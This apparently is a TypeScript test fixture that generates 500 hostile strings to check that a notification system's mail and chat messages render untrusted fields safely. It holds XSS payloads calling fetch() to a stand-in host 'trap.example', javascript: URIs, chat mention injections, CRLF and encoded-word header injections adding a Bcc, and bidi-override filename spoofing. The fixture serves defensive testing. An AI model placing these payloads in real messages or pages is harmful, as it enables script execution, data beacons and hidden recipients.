import { CHANNEL_EVENTS } from '../../src/channels/index.ts';
import {
  composeMessage,
  sampleContent,
  type Content,
  type Message,
  type Payload,
} from '../../src/notify/index.ts';
import { payloads } from '../adapters/markup/payloads.ts';

/** TRAP is where what is active would call. */
export const TRAP = 'http://trap.example';

/** What could do something in a mail, a chat or a header of a mail. */
const OWN: readonly string[] = [
  `<script>fetch('${TRAP}/script')</script>`,
  `<img src=${TRAP}/img onerror="fetch('${TRAP}/onerror')">`,
  `<svg onload=fetch('${TRAP}/svg')>`,
  `<link rel=stylesheet href=${TRAP}/css>`,
  `<style>@import '${TRAP}/import'; * { background: url(${TRAP}/bg) }</style>`,
  `"><iframe src=${TRAP}/frame></iframe>`,
  `--></style></title></textarea><base href=${TRAP}><meta http-equiv=refresh content="0;url=${TRAP}/meta">`,
  `<form action=${TRAP}><input autofocus onfocus=fetch('${TRAP}/focus')>`,
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<!channel>',
  '<!here|here>',
  '<@U012AB3CD>',
  '<#C012AB3CD|general>',
  `<${TRAP}|click>`,
  `[click](${TRAP})`,
  `![x](${TRAP}/md.png)`,
  '<at>everyone</at>',
  '{{DATE(2026-11-24T06:00:00Z, SHORT)}}',
  '${title}',
  '*bold* _it_ ~no~ `code` ```block```',
  'a\r\nBcc: x@trap.example',
  'a\nSubject: other',
  'a\u2028b\u2029c\u0085d',
  '=?utf-8?q?=0D=0ABcc:_x@trap.example?=',
  '\u202egnp.exe\u202c',
  '\u2066\u2067\u2068\u2069',
  '\u0000\u0001\u001b[31mred\u0007',
  '\u200b\u200d\ufeff',
  '\ud800 alone \udc00',
  '&lt;b&gt; &#60;b&#62; &amp;lt;',
  'x'.repeat(5_000),
  '<'.repeat(3_000),
  '👩‍👩‍👧‍👦'.repeat(300),
];

const AROUND: readonly ((seed: string) => string)[] = [
  (seed) => seed,
  (seed) => `a ${seed} b`,
  (seed) => `\`${seed}\``,
  (seed) => `"${seed}'>`,
  (seed) => `${seed}\n${seed}`,
];

/** HOSTILE are 500 texts. */
export const HOSTILE: readonly string[] = [
  ...new Set(AROUND.flatMap((around) => [...OWN, ...payloads().slice(0, 120)].map(around))),
].slice(0, 500);

/** hostileMessage is a message in which every text that comes from outside is a hostile one. */
export function hostileMessage(text: string, at: number): Message {
  const event = CHANNEL_EVENTS[at % CHANNEL_EVENTS.length] ?? 'critical_finding';
  const content = sampleContent([event]);
  const hostile: Content = {
    sections: content.sections.map((section) => ({
      ...section,
      entries: section.entries.map((entry) => ({
        ...entry,
        subject: /^sha256:/.test(entry.subject) ? entry.subject : text,
        items: entry.items.map((item) => replaced(item, text)),
      })),
    })),
    places: Object.fromEntries(
      Object.keys(content.places).map((digest) => [
        digest,
        { name: text, workloads: [{ cluster: text, namespace: text, name: text }], total: 1 },
      ]),
    ),
  };
  return composeMessage(hostile, {
    id: `msg_${'a'.repeat(26)}`,
    at: Date.UTC(2026, 10, 24, 6),
    references: [],
  });
}

function replaced(item: Payload, text: string): Payload {
  return Object.fromEntries(
    Object.entries(item).map(([field, value]) => {
      if (Array.isArray(value)) return [field, [text, text]];
      return [field, typeof value === 'string' && field !== 'digest' ? text : value];
    }),
  );
}
